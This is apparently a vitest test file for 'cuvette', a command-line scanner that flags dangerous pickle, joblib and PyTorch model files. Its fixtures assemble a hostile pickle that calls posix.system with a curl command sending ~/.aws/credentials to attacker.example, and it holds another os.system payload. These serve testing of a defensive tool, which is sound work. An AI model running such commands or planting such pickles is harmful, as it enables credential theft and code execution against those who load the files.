import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Ajv from 'ajv';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { VERSION } from '../../shared/version';
import { assemble } from '../engine/testing/assemble';
import { main } from './program';

const packageJson = JSON.parse(readFileSync(path.resolve(import.meta.dirname, '../../package.json'), 'utf8')) as {
  version: string;
};
const COMMAND = 'curl https://attacker.example?data=$(cat ~/.aws/credentials)';
const benign = assemble(['PROTO', 4], ['EMPTY_LIST'], ['MEMOIZE'], ['BININT1', 1], ['APPEND'], ['STOP']);
const attack = assemble(
  ['PROTO', 4],
  ['SHORT_BINUNICODE', 'posix'],
  ['MEMOIZE'],
  ['SHORT_BINUNICODE', 'system'],
  ['MEMOIZE'],
  ['STACK_GLOBAL'],
  ['MEMOIZE'],
  ['SHORT_BINUNICODE', COMMAND],
  ['MEMOIZE'],
  ['TUPLE1'],
  ['REDUCE'],
  ['STOP'],
);

let folder = '';
const file = (name: string) => path.join(folder, name);

beforeAll(() => {
  folder = mkdtempSync(path.join(os.tmpdir(), 'cuvette-cli-'));
  writeFileSync(file('benign.pkl'), benign);
  writeFileSync(file('attack.joblib'), attack);
  writeFileSync(file('cut.pkl'), benign.subarray(0, benign.length - 1));
  writeFileSync(file('unknown.pkl'), assemble(['GLOBAL', 'some.pkg\nThing'], ['STOP']));
  mkdirSync(file('many/inner'), { recursive: true });
  for (let i = 0; i < 300; i++) writeFileSync(file(`many/${i % 2 ? 'inner/' : ''}${i}.pkl`), benign);
  symlinkSync(file('attack.joblib'), file('many/link.pkl'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));
afterEach(() => vi.restoreAllMocks());

/** Runs the program in this process and collects what it prints. */
async function cuvette(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((text) => {
    out += String(text);
    return true;
  });
  vi.spyOn(process.stderr, 'write').mockImplementation((text) => {
    err += String(text);
    return true;
  });
  const code = await main(args);
  vi.restoreAllMocks();
  return { code, out, err };
}

const schema = () => JSON.parse(readFileSync(path.resolve(import.meta.dirname, '../../docs/scan.schema.json'), 'utf8'));

describe('cuvette scan', () => {
  test('exit codes: no findings, dangerous, suspicious, inconclusive, bad usage', async () => {
    expect((await cuvette('scan', file('benign.pkl'))).code).toBe(0);
    expect((await cuvette('scan', file('attack.joblib'))).code).toBe(1);
    expect((await cuvette('scan', file('unknown.pkl'))).code).toBe(1);
    expect((await cuvette('scan', file('cut.pkl'))).code).toBe(2);
    expect((await cuvette('scan', file('cut.pkl'), file('attack.joblib'))).code).toBe(1);
    expect((await cuvette('scan')).code).toBe(64);
    expect((await cuvette('scan', '--nonsense', file('benign.pkl'))).code).toBe(64);
  });

  test('the JSON document keeps the published schema and shows the command', async () => {
    const { out } = await cuvette(
      'scan',
      '--json',
      file('benign.pkl'),
      file('attack.joblib'),
      file('cut.pkl'),
      file('missing.pkl'),
    );
    const document = JSON.parse(out);
    const validate = new Ajv({ strict: false }).compile(schema());
    expect(validate(document), JSON.stringify(validate.errors)).toBe(true);
    expect(validate({ ...document, schemaVersion: 2 })).toBe(false);
    expect(validate({ ...document, artifacts: [{ ...document.artifacts[0], verdict: 'safe' }] })).toBe(false);
    expect(document.summary).toEqual({ dangerous: 1, suspicious: 0, noFindings: 1, inconclusive: 2 });
    const found = document.artifacts[1];
    expect(found.verdict).toBe('dangerous');
    expect(found.findings[0].message).toContain(COMMAND);
    expect(found.calls).toEqual([
      expect.objectContaining({ callee: 'posix.system', arguments: `('${COMMAND}',)`, byteOffset: attack.length - 2 }),
    ]);
    expect(found.digests.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(document.artifacts[3]).toMatchObject({ verdict: 'inconclusive', error: { code: 'notFound' } });
  });

  test('a password file opens encrypted members, and is never printed', async () => {
    const locked = path.resolve(import.meta.dirname, '../../e2e/corpus/zip/locked_hostile.zip');
    const without = await cuvette('scan', '--no-color', locked);
    expect(without.code).toBe(2);
    expect(without.out).toContain('--password-file');
    writeFileSync(file('passwords.txt'), 'wrong horse\r\n\nattacker.example\n');
    const { out, code } = await cuvette('scan', '--json', '--password-file', file('passwords.txt'), locked);
    expect(code).toBe(1);
    expect(out).not.toContain('wrong horse');
    const [artifact] = JSON.parse(out).artifacts;
    expect(artifact).toMatchObject({ verdict: 'dangerous', locked: false, weightsOnly: null });
    expect((await cuvette('scan', '--password-file', file('missing.txt'), locked)).code).toBe(64);
    expect((await cuvette('scan', locked, '--password-file')).code).toBe(64);
  });

  test('a PyTorch file comes with the preflight of weights_only, in the published schema', async () => {
    const corpus = (name: string) => path.resolve(import.meta.dirname, '../../e2e/corpus/torch', name);
    const { out } = await cuvette('scan', '--json', corpus('state-dict-old.pt'), corpus('whole-module-old.pt'));
    const document = JSON.parse(out);
    const validate = new Ajv({ strict: false }).compile(schema());
    expect(validate(document), JSON.stringify(validate.errors)).toBe(true);
    expect(document.artifacts[0].weightsOnly).toEqual({ accepts: true, stoppedBy: [] });
    expect(document.artifacts[1].weightsOnly.stoppedBy[0].what).toBe('torch.nn.modules.container.Sequential');
    const { out: human } = await cuvette('scan', '--no-color', corpus('whole-module-old.pt'));
    expect(human).toContain('torch.load(weights_only=True) would refuse it: torch.nn.modules.container.Sequential');
  });

  test('the loader table is in the JSON, and people are told where loaders differ', async () => {
    const corpus = path.resolve(import.meta.dirname, '../../e2e/corpus/joblib/between_arrays.joblib');
    const { out } = await cuvette('scan', '--json', corpus, file('attack.joblib'));
    const document = JSON.parse(out);
    const validate = new Ajv({ strict: false }).compile(schema());
    expect(validate(document), JSON.stringify(validate.errors)).toBe(true);
    const results = document.artifacts.map((artifact: { loaders: { program: string; result: string }[] }) =>
      artifact.loaders.map(({ program, result }) => `${program} ${result}`),
    );
    expect(results).toEqual([
      ['pickleC fails', 'picklePython fails', 'joblib dangerous', 'torch fails', 'torchWeightsOnly refuses'],
      [
        'pickleC dangerous',
        'picklePython dangerous',
        'joblib dangerous',
        'torch dangerous',
        'torchWeightsOnly refuses',
      ],
    ]);
    const { out: human } = await cuvette('scan', '--no-color', corpus);
    expect(human).toContain("joblib.load: Calls posix.system('curl https[:]//attacker[.]example').");
    expect((await cuvette('scan', '--no-color', file('attack.joblib'))).out).not.toContain('joblib.load:');
  });

  test('a folder streams as one line a file, in order, links not followed', async () => {
    const { out, code } = await cuvette('scan', '--ndjson', '--recursive', file('many'));
    const lines = out
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(code).toBe(0);
    expect(lines).toHaveLength(300);
    expect(lines.every((line) => line.verdict === 'no-findings')).toBe(true);
    expect(new Set(lines.map((line) => line.path)).size).toBe(300);
  });

  test('an unreadable path is inconclusive with its reason and does not stop the rest', async () => {
    writeFileSync(file('locked.pkl'), benign);
    chmodSync(file('locked.pkl'), 0);
    const { out, code } = await cuvette('scan', '--json', file('missing.pkl'), file('many'), file('benign.pkl'));
    const { artifacts } = JSON.parse(out);
    expect(artifacts.map((artifact: { verdict: string }) => artifact.verdict)).toEqual([
      'inconclusive',
      'inconclusive',
      'no-findings',
    ]);
    expect(artifacts[1].error.message).toContain('--recursive');
    expect(code).toBe(2);
  });

  test('people get the verdict, the command and no control characters of the file', async () => {
    writeFileSync(
      file('tricky.pkl'),
      assemble(['GLOBAL', 'os\nsystem'], ['UNICODE', 'echo \\u001b[2J\\u202e hi'], ['TUPLE1'], ['REDUCE'], ['STOP']),
    );
    const { out } = await cuvette('scan', '--no-color', file('tricky.pkl'));
    expect(out).toContain('⬣ Dangerous');
    expect(out).toContain('echo \\x1b[2J\\u202e hi');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be there
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
    const { out: calm } = await cuvette('scan', '--no-color', file('benign.pkl'));
    expect(calm).toContain('● No findings');
    expect(calm.toLowerCase()).not.toContain('safe');
  });

  describe('--policy', () => {
    const digest = (name: string) =>
      createHash('sha256')
        .update(readFileSync(file(name)))
        .digest('hex');
    const policy = (name: string, content: object): string => {
      writeFileSync(file(name), JSON.stringify({ version: 1, profile: 'everything-known', ...content }));
      return file(name);
    };
    const forModel = (model: string, more: object = {}) => ({
      sha256: digest(model),
      module: 'some.pkg',
      name: 'Thing',
      reason: 'read by hand',
      author: 'Ada',
      added: '2026-01-01',
      expires: '9999-12-31',
      ...more,
    });

    test('an exception is named, marked and struck out of the verdict, in the published schema', async () => {
      const accepted = policy('accepted.json', { exceptions: [forModel('unknown.pkl')] });
      const { out, code } = await cuvette(
        'scan',
        '--json',
        '--policy',
        accepted,
        file('unknown.pkl'),
        file('attack.joblib'),
      );
      const document = JSON.parse(out);
      const validate = new Ajv({ strict: false }).compile(schema());
      expect(validate(document), JSON.stringify(validate.errors)).toBe(true);
      expect(document.policy).toEqual({
        file: accepted,
        profile: 'everything-known',
        sha256: digest('accepted.json'),
        rows: 0,
        exceptions: 1,
      });
      expect(code).toBe(1);
      const [thing, attack] = document.artifacts;
      expect(thing).toMatchObject({ verdict: 'no-findings', accepted: 1, policy: { sha256: digest('accepted.json') } });
      expect(thing.findings[0].accepted).toEqual({ reason: 'read by hand', author: 'Ada', expires: '9999-12-31' });
      expect(attack).toMatchObject({ verdict: 'dangerous', accepted: 0 });
      expect(attack.findings[0].accepted).toBeNull();
      expect((await cuvette('scan', '--policy', accepted, file('unknown.pkl'))).code).toBe(0);
    });

    test('people read which policy, what is accepted, by whom and until when', async () => {
      const accepted = policy('accepted.json', {
        exceptions: [forModel('unknown.pkl'), forModel('attack.joblib', { expires: '2026-01-02' })],
      });
      const { out } = await cuvette('scan', '--no-color', '--policy', accepted, file('unknown.pkl'));
      expect(out).toContain('profile everything-known, 0 rows, 2 exceptions, 1 of them expired.');
      expect(out).toContain('● No findings');
      expect(out).toContain('accepted by Ada until 9999-12-31: read by hand');
      expect(out).toContain('1 finding accepted under the policy of the project.');
    });

    test('an expired exception, another file and another name change nothing', async () => {
      for (const exception of [
        forModel('unknown.pkl', { expires: '2026-01-02' }),
        forModel('benign.pkl'),
        forModel('unknown.pkl', { name: 'Other' }),
      ])
        expect(
          (await cuvette('scan', '--policy', policy('p.json', { exceptions: [exception] }), file('unknown.pkl'))).code,
        ).toBe(1);
    });

    test('a profile and a row judge names', async () => {
      const forest = path.resolve(import.meta.dirname, '../../e2e/corpus/joblib/sklearn-pipeline-new.joblib');
      expect((await cuvette('scan', forest)).code).toBe(0);
      const strict = await cuvette(
        'scan',
        '--json',
        '--policy',
        policy('strict.json', { profile: 'data-only' }),
        forest,
      );
      const [artifact] = JSON.parse(strict.out).artifacts;
      expect(artifact.verdict).toBe('suspicious');
      expect(artifact.globals.some((global: { decidedBy: string }) => global.decidedBy === 'profile')).toBe(true);
      expect((await cuvette('scan', '--policy', policy('sk.json', { profile: 'scikit-learn' }), forest)).code).toBe(0);
      expect((await cuvette('scan', '--policy', policy('pt.json', { profile: 'pytorch' }), forest)).code).toBe(1);
      const rows = [{ module: 'some.pkg', name: 'Thing', judgement: 'trusted', reason: 'ours' }];
      expect((await cuvette('scan', '--policy', policy('row.json', { rows }), file('unknown.pkl'))).code).toBe(0);
    });

    test('a bad policy is bad usage, said place by place, and nothing is scanned', async () => {
      const bad = policy('bad.json', {
        profile: 'any',
        rows: [{ module: 'a.*', name: 'b', judgement: 'trusted', reason: 'x' }],
      });
      const { code, out, err } = await cuvette('scan', '--json', '--policy', bad, file('benign.pkl'));
      expect(code).toBe(64);
      expect(out).toBe('');
      expect(err).toContain('bad.json: profile: This must be one of data-only');
      expect(err).toContain('bad.json: rows[0].module: ');
      writeFileSync(file('nojson.json'), '{');
      writeFileSync(file('latin.json'), Buffer.from([0x22, 0xe9, 0x22]));
      for (const name of ['nojson.json', 'latin.json', 'nowhere.json', 'many'])
        expect((await cuvette('scan', '--policy', file(name), file('benign.pkl'))).code, name).toBe(64);
      expect((await cuvette('scan', file('benign.pkl'), '--policy')).code).toBe(64);
      expect((await cuvette('scan', '--policy', bad, '--policy', bad, file('benign.pkl'))).code).toBe(64);
    });

    test('none is looked for: a policy that lies beside the file is not in force', async () => {
      policy('cuvette.policy.json', { exceptions: [forModel('unknown.pkl')] });
      const { out } = await cuvette('scan', '--json', file('unknown.pkl'));
      expect(JSON.parse(out)).toMatchObject({ policy: null, summary: { suspicious: 1 } });
    });
  });

  test('the document explains the rules that hit, once, and a page can be printed', async () => {
    const { out } = await cuvette('scan', '--json', file('attack.joblib'), file('attack.joblib'), file('unknown.pkl'));
    const { rules, artifacts } = JSON.parse(out);
    const hit = artifacts.flatMap(({ findings }: { findings: { ruleId: string }[] }) =>
      findings.map(({ ruleId }) => ruleId),
    );
    expect(Object.keys(rules).sort()).toEqual([...new Set(hit)].sort());
    expect(rules['dangerous-call']).toMatchObject({ certainty: 'certain', title: 'Calls something dangerous' });
    const page = await cuvette('explain', 'dangerous-call');
    expect(page.code).toBe(0);
    for (const text of [rules['dangerous-call'].title, 'What would happen', 'How sure', 'What to do'])
      expect(page.out).toContain(text);
    expect(Math.max(...page.out.split('\n').map((line) => line.length))).toBeLessThanOrEqual(100);
    expect((await cuvette('explain', 'list')).out).toContain('unknown-global');
    expect(await cuvette('explain', 'no-such\u001b[2J')).toMatchObject({ code: 64, out: '' });
  });

  test('help and version', async () => {
    expect((await cuvette('--help')).out).toContain('cuvette scan');
    expect((await cuvette('--version')).out).toContain(VERSION);
    expect(VERSION).toBe(packageJson.version);
  });
});
